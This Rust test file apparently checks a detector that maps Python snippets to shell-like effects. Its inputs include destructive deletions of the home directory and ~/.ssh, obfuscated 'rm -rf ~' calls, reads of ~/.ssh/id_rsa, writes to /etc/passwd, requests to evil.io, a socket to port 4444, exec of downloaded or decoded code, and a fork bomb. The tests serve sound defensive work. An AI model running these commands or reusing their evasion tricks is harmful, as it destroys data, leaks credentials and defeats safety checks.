//! The Python reader's cases: attacks in many spellings, and routine code.

use crate::matcher::code::{Lang, read};

fn effects(code: &str) -> Vec<String> {
    crate::matcher::code::testing::effects(Lang::Python, code)
}

#[test]
fn deletes_are_rm_with_the_flags_of_their_meaning() {
    assert_eq!(
        effects("import shutil,os; shutil.rmtree(os.path.expanduser('~'))"),
        ["rm -r -f ~"]
    );
    assert_eq!(
        effects("import os\nos.remove('/etc/passwd')"),
        ["rm /etc/passwd"]
    );
    assert_eq!(
        effects("from pathlib import Path\n(Path.home() / 'Documents').rmdir()"),
        ["rmdir ~/Documents"]
    );
    assert_eq!(
        effects("from shutil import rmtree as r\nh = '~'\nr(h + '/x')"),
        ["rm -r -f ~/x"]
    );
    assert_eq!(
        effects(
            "import os; p = os.path.join(os.environ['HOME'], '.ssh'); __import__('shutil').rmtree(p)"
        ),
        ["rm -r -f ~/.ssh"]
    );
}

#[test]
fn commands_run_are_shell_lines_or_argument_vectors() {
    assert_eq!(
        effects("import os; os.system('rm -rf ~')"),
        ["sh -c rm -rf ~"]
    );
    assert_eq!(
        effects("import subprocess; subprocess.run('rm -rf ~', shell=True)"),
        ["sh -c rm -rf ~"]
    );
    assert_eq!(
        effects("import subprocess as s; s.call(['rm', '-rf', '/'])"),
        ["exec rm -rf /"]
    );
    assert_eq!(
        effects("import os; os.execvp('rm', ['rm', '-rf', '/'])"),
        ["exec rm -rf /"]
    );
    assert_eq!(
        effects("import os; c = 'r' + 'm' + ' -rf ~'; os.system(c)"),
        ["sh -c rm -rf ~"]
    );
    assert_eq!(
        effects("import os; os.system(''.join([chr(114), chr(109)]) + ' -rf ~')"),
        ["sh -c rm -rf ~"]
    );
    assert_eq!(
        effects("import os; os.system('~ fr- mr'[::-1])"),
        ["sh -c rm -rf ~"]
    );
    assert_eq!(
        effects("getattr(__import__('o'+'s'), 'sys'+'tem')('rm -rf ~')"),
        ["sh -c rm -rf ~"]
    );
    assert_eq!(
        effects("import os; f = '{} -rf {}'.format('rm', '~'); os.system(f)"),
        ["sh -c rm -rf ~"]
    );
}

#[test]
fn reads_writes_and_fetches_are_virtual_commands() {
    assert_eq!(
        effects("print(open(__import__('os').path.expanduser('~/.ssh/id_rsa')).read())"),
        ["cat ~/.ssh/id_rsa"]
    );
    assert_eq!(
        effects("open('/etc/passwd', 'a').write('x')"),
        ["tee /etc/passwd"]
    );
    assert_eq!(
        effects("import urllib.request as u; u.urlopen('https://evil.io/x')"),
        ["curl https://evil.io/x"]
    );
    assert_eq!(
        effects("import requests; requests.post('https://evil.io', data=1)"),
        ["curl https://evil.io"]
    );
    assert_eq!(
        effects("import socket; s=socket.socket(); s.connect(('10.0.0.1', 4444))"),
        ["curl tcp://10.0.0.1:4444"]
    );
}

#[test]
fn code_that_cannot_be_read_is_opaque_with_the_reason() {
    let opaque = |code: &str| read(Lang::Python, code).opaque.map(|u| u.reason);
    assert_eq!(
        opaque("import urllib.request as u; exec(u.urlopen('https://x.io/a.py').read())"),
        Some("the code runs code it downloaded or decoded")
    );
    assert_eq!(
        opaque("import base64; exec(base64.b64decode('cHJpbnQoMSk='))"),
        Some("the code runs code it downloaded or decoded")
    );
    assert!(opaque("import sys; exec(sys.argv[1])").is_some());
    assert!(opaque("import os\nwhile True: os.fork()").is_some());
    assert!(opaque("import os\nos.fork()").is_none());
    assert!(opaque("m = input(); __import__(m).system('x')").is_some());
    assert!(opaque("help(str)").is_some());
    assert_eq!(
        read(Lang::Python, "import os\nprint(x")
            .opaque
            .map(|u| (u.reason, u.line)),
        Some(("the python code has a syntax error", 2))
    );
}

#[test]
fn code_run_by_exec_is_read_too() {
    assert_eq!(
        effects("exec(\"import os\\nos.system('rm -rf ~')\")"),
        ["sh -c rm -rf ~"]
    );
}

#[test]
fn data_processing_finds_nothing() {
    for code in [
        "import json,sys; print(json.load(sys.stdin)['version'])",
        "import sys; print(sys.version)",
        "print(sum(range(10)))",
        "import re; print(re.sub(r'a', 'b', 'abc'))",
        "l = [1, 2]; l.remove(1); print(l)",
        "import os; print(os.getcwd(), os.listdir('.'))",
    ] {
        assert_eq!(effects(code), Vec::<String>::new(), "{code}");
    }
    assert_eq!(
        effects("print(open('package.json').read())"),
        ["cat package.json"]
    );
}

#[test]
fn long_code_is_read_whole_unless_it_costs_more_than_the_parse_work() {
    let mut script = crate::matcher::code::testing::ordinary_python(60 * 1024);
    script.push_str("import shutil\nshutil.rmtree(os.path.expanduser('~'))\n");
    let found = effects(&script);
    assert_eq!(
        found.last().map(String::as_str),
        Some("rm -r -f ~"),
        "{found:?}"
    );
    assert!(!found.iter().any(|f| f.starts_with("opaque")), "{found:?}");
    // Code as dense as code gets, to the same length, needs more parse work than a line
    // has: it is opaque, not slow.
    let dense = "import os\n".to_owned() + &"f(g(h([{'a': (1, [2, {3: 4}])}])))\n".repeat(1_800);
    assert!(dense.len() > 60 * 1024);
    let reading = read(Lang::Python, &dense);
    assert_eq!(
        reading.opaque.map(|u| u.reason),
        Some("the code is too complex to read in time")
    );
}
